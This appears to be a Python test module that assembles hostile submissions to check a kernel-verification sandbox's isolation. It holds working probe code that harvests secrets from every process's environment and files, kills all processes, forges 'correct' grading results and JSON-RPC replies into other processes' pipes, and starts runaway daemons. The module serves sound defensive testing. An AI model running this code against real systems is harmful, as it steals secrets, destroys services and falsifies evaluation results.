"""Hostile candidates and references for the reach tests, as the source strings a client would send.

Every candidate targets the bundled ``elementwise`` problem and carries the cpp prelude's real
kernel, so it reaches a worker. Attacks are sent with every guardrail rule off (``ATTACKER_GUARDRAILS``):
callers choose their own guardrails, so static rules are no defence against them.

An attack reports what it found through every channel a run has: stdout and stderr (kept as the
run's worker logs) and the message of the exception it raises at the end (kept as the result's
``error``). It hunts for the prefix every planted secret carries (``kfsecret``), prints listings and
heads of what it may be shown, and digests of the files it reads. The lines the tests look for
in what comes back (``probe-finished``, forged markers) are assembled at run time, so the
candidate's own source, which the run keeps among its artifacts, never contains them.
"""

from __future__ import annotations

import json
from textwrap import dedent
from typing import Any

from candidates import PRELUDE_CORRECT, REFERENCE, _candidate

from kfoundry.verify.ast_rules import RULES
from kfoundry.verify.guardrails import RUNTIME_RULES

#: every planted secret starts with this; attacks hunt for it in whatever bytes they can read
SECRET_PREFIX = "kfsecret"
#: an attack prints this once it got to the end of its attempts (only then does "nothing leaked" mean anything)
FINISHED = "probe-finished"
ATTACKER_GUARDRAILS = {"backend_marker": False, "rules": {rule: "off" for rule in [*RULES, *RUNTIME_RULES]}}

_PROBE = '''
import hashlib
import json
import re
import signal
import socket
import time

_HUNT = re.compile(rb"kfsecret[-0-9a-z]*")
_LOOT = []
_READS = {"left": 3000}


def _note(line):
    _LOOT.append(line)
    print(line, flush=True)
    print(line, file=sys.stderr, flush=True)


def _slurp(path, limit=1 << 16):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit)
    except OSError:
        return None


def _hunt(where, data):
    for found in sorted(set(_HUNT.findall(data or b""))):
        _note(f"found {found.decode()} in {where}")


def _walk(root, show=False):
    """Every name and (bounded) file under ``root``: hunted, and with ``show`` listed with its head."""
    if not root or not os.path.isdir(root):
        _note(f"no directory {root}")
        return
    read = 0
    for top, dirs, files in os.walk(root, onerror=lambda exc: _note(f"refused {exc.filename}: {exc.strerror}")):
        for name in dirs + files:
            _hunt(f"a name in {top}", name.encode())
        for name in files:
            if _READS["left"] <= 0:
                _note("read budget spent")
                return
            _READS["left"] -= 1
            path = os.path.join(top, name)
            data = _slurp(path)
            if data is None:
                continue
            read += 1
            _hunt(path, data)
            if show:
                _note(f"read {path}: {data[:300]!r}")
    _note(f"read {read} files under {root}")


def _processes():
    """The environment and command line of every process this one can name."""
    seen = opened = 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        seen += 1
        for part in ("environ", "cmdline"):
            data = _slurp(f"/proc/{entry}/{part}", 1 << 20)
            if data is not None:
                opened += 1
                _hunt(f"/proc/{entry}/{part}", data)
    _note(f"saw {seen} processes, read {opened} environ/cmdline files")


def _digests(paths):
    for path in paths:
        data = _slurp(path, 1 << 24)
        if data is None:
            _note(f"cannot read {path}")
        else:
            _note(f"read {path}: sha256 {hashlib.sha256(data).hexdigest()} head {data[:200]!r}")


def _finish():
    _note("probe" + "-finished")
    raise RuntimeError("loot: " + " | ".join(_LOOT)[-3000:])
'''


def _attack(calls: str, *, extra: str = "") -> str:
    """A candidate whose first forward runs ``calls`` (probe helpers in scope), then reports and raises."""
    return _candidate("_attack()\nreturn swish(x, self.scale_factor)", extra=_PROBE + extra + f"\n\ndef _attack():\n{_indent(calls)}\n    _finish()\n")


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in dedent(code).strip().splitlines())


def reads_every_process() -> str:
    """Reads ``/proc/<pid>/environ`` and ``cmdline`` of every process it can see."""
    return _attack("_processes()")


def walks(*roots: str, show: bool = False) -> str:
    """Lists and reads everything under ``roots`` (and, with ``show``, prints each file's head)."""
    return _attack("\n".join(f"_walk({root!r}, show={show!r})" for root in roots))


def reads_files(*paths: str) -> str:
    """Reads each of ``paths`` and prints its sha256."""
    return _attack(f"_digests({list(paths)!r})")


def calls_the_server(port: int) -> str:
    """Opens TCP connections to the server's port on the loopback addresses and sends ``GET /healthz``."""
    return _attack(
        f"""
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as sock:
                    sock.settimeout(5)
                    sock.connect((host, {port}))
                    sock.sendall(("GET /healthz " + "HTTP" + "/1.0" + "\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n").encode())
                    reply = sock.recv(1 << 16)
                _note(f"connected to {{host}}: {{reply[:400]!r}}")
            except OSError as exc:
                _note(f"no connection to {{host}}: {{exc}}")
        """
    )


def kills_everything() -> str:
    """``kill(-1, SIGKILL)``, then SIGKILL to every pid it can name, then to every process group it can see."""
    return _attack(
        """
        try:
            os.kill(-1, signal.SIGKILL)
            _note("kill(-1, SIGKILL) accepted")
        except OSError as exc:
            _note(f"kill(-1) refused: {exc}")
        hit = groups = 0
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == os.getpid():
                continue
            try:
                os.kill(int(entry), signal.SIGKILL)
                hit += 1
            except OSError:
                pass
            try:
                if os.getpgid(int(entry)) != os.getpgrp():
                    os.killpg(os.getpgid(int(entry)), signal.SIGKILL)
                    groups += 1
            except OSError:
                pass
        _note(f"SIGKILL reached {hit} processes and {groups} groups")
        """
    )


def overwrites_runs_and_caches(home: str, mark: str) -> str:
    """Overwrites every ``result.json`` under ``home``/runs with a forged "correct" result and every build-cache file
    with garbage (in place and by rename), and drops a file named ``mark`` into every directory it can."""
    head, tail = mark[:8], mark[8:]
    return _attack(
        f"""
        mark = {head!r} + {tail!r}
        forged = json.dumps({{"state": "correct", "run_id": mark, "trials_passed": 1, "trials": 1}}).encode()
        garbage = (mark + " garbage ").encode() * 64
        changed = created = 0
        for top, dirs, files in os.walk({home!r}):
            for name in files:
                path = os.path.join(top, name)
                if name != "result.json" and "cache" not in path:
                    continue
                content = forged if name == "result.json" else garbage
                try:
                    with open(path, "r+b") as fh:
                        fh.write(content)
                    changed += 1
                except OSError:
                    pass
                try:
                    with open(path + ".forged", "wb") as fh:
                        fh.write(content)
                    os.replace(path + ".forged", path)
                    changed += 1
                except OSError:
                    pass
            try:
                with open(os.path.join(top, mark), "wb") as fh:
                    fh.write(garbage)
                created += 1
            except OSError:
                pass
        _note(f"changed {{changed}} files and created {{created}}")
        """
    )


def forges_json_rpc(mark: str, template: dict[str, Any]) -> str:
    """Writes forged JSON-RPC lines into every pipe of every process it can see, then returns a wrong output.

    The lines: for every small request id a well-formed ``correct`` verify result (``template`` with ``mark``
    as its run id), a log notification and a request whose id is ``mark``. Only pipes: stdio's JSON-RPC
    travels on them (and opening a socket through /proc fails anyway).
    """
    head, tail = mark[:7], mark[7:]
    return _candidate(
        "_forge()\nreturn swish(x, self.scale_factor) + 1.0",
        extra=_PROBE + f'''

_TEMPLATE = {json.dumps(template)!r}


def _forge():
    mark = {head!r} + {tail!r}
    forged = json.loads(_TEMPLATE)
    forged["run_id"] = mark
    result = {{"content": [{{"type": "text", "text": mark}}], "structuredContent": forged, "isError": False, "resultType": "complete"}}
    lines = [{{"jsonrpc": "2.0", "id": request_id, "result": result}} for request_id in [*range(64), *(str(i) for i in range(64))]]
    lines.append({{"jsonrpc": "2.0", "method": "notifications/message", "params": {{"level": "error", "data": mark}}}})
    lines.append({{"jsonrpc": "2.0", "id": mark, "method": "tools/list"}})
    payload = [(json.dumps(line) + "\\n").encode() for line in lines]
    pipes = 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            fds = os.listdir(f"/proc/{{entry}}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{{entry}}/fd/{{fd}}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                for line in payload:
                    os.write(out, line)
                pipes += 1
            except OSError:
                pass
            finally:
                os.close(out)
    _note(f"forged lines written into {{pipes}} pipes")
    _note("probe" + "-finished")
''',
    )


#: writes garbage into every descriptor it has open besides stdin/stdout/stderr (saying which first), then answers correctly
SCRIBBLES_ON_ITS_OWN_FDS = _candidate(
    """
    opened = []
    for fd in range(3, 4096):
        try:
            os.fstat(fd)
            opened.append(fd)
        except OSError:
            pass
    print("scribbling" + " on", opened, flush=True)
    for fd in opened:
        try:
            os.write(fd, b"\\xde\\xad\\xbe\\xef garbage from the candidate\\n" * 16)
        except OSError:
            pass
    return swish(x, self.scale_factor)
    """
)


def holds_secret(marker: str, seconds: float) -> str:
    """Bob's correct candidate: its first forward drops files named and filled with ``marker`` into its working
    directory, its temporary directories and every folder of /dev/shm it may write, then waits ``seconds``."""
    return _candidate(
        f"""
        global _HELD
        if not _HELD:
            _HELD = True
            _plant()
            end = time.monotonic() + {seconds!r}
            while time.monotonic() < end:
                time.sleep(0.05)
        return swish(x, self.scale_factor)
        """,
        extra=f'''
import time

_HELD = False
_MARKER = {marker!r}


def _plant():
    places = {{os.getcwd(), os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/tmp"), "/tmp", "/var/tmp"}}
    for top, dirs, files in os.walk("/dev/shm"):
        places.add(top)
    for place in places:
        try:
            with open(os.path.join(place, _MARKER + ".bin"), "w") as fh:
                fh.write(_MARKER)
        except OSError:
            pass
''',
    )


def marked(marker: str) -> str:
    """Bob's correct candidate with ``marker`` in its source and as a string constant in its compiled kernel."""
    tagged = PRELUDE_CORRECT.replace('#include <cstdint>\n', f'#include <cstdint>\nextern "C" const char* kf_tag() {{ return "{marker}"; }}\n', 1)
    return f"# {marker}\n{tagged}"


def starts_a_daemon(mark: str) -> str:
    """Starts a textbook daemon (fork, setsid, fork, stdio on /dev/null) that execs a loop appending to a file,
    with ``mark`` on its command line; waits until it wrote, then answers correctly."""
    head, tail = mark[:8], mark[8:]
    return _candidate(
        """
        _daemon()
        return swish(x, self.scale_factor)
        """,
        extra=f'''
import time

_LOOP = "import sys, time\\nwhile True:\\n    with open(sys.argv[2], 'a') as fh:\\n        fh.write('x')\\n    time.sleep(0.02)\\n"


def _daemon():
    mark = {head!r} + {tail!r}
    alive = os.path.join(os.environ.get("TMPDIR", "/tmp"), "daemon-alive")
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", _LOOP, mark, alive])
        os._exit(0)
    os.waitpid(first, 0)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not (os.path.exists(alive) and os.path.getsize(alive) > 0):
        time.sleep(0.02)
    print("daemon" + "-up" if os.path.exists(alive) else "daemon never wrote", flush=True)
''',
    )


def hangs_beside_a_child(mark: str) -> str:
    """Starts a child that sleeps in a loop with ``mark`` on its command line, then spins forever itself."""
    head, tail = mark[:8], mark[8:]
    return _candidate(
        f"""
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True:\\n    time.sleep(0.05)\\n", {head!r} + {tail!r}])
        while True:
            pass
        """
    )


def hostile_reference(home: str, project_files: list[str]) -> str:
    """The elementwise problem whose ``get_inputs`` first reads every process, the server's home and project files."""
    return (
        f"{REFERENCE}\n\nimport os\nimport sys\n{_PROBE}\n\n"
        "def get_inputs():\n"
        "    _processes()\n"
        f"    _walk({home!r}, show=True)\n"
        f"    _digests({project_files!r})\n"
        "    _finish()\n"
    )
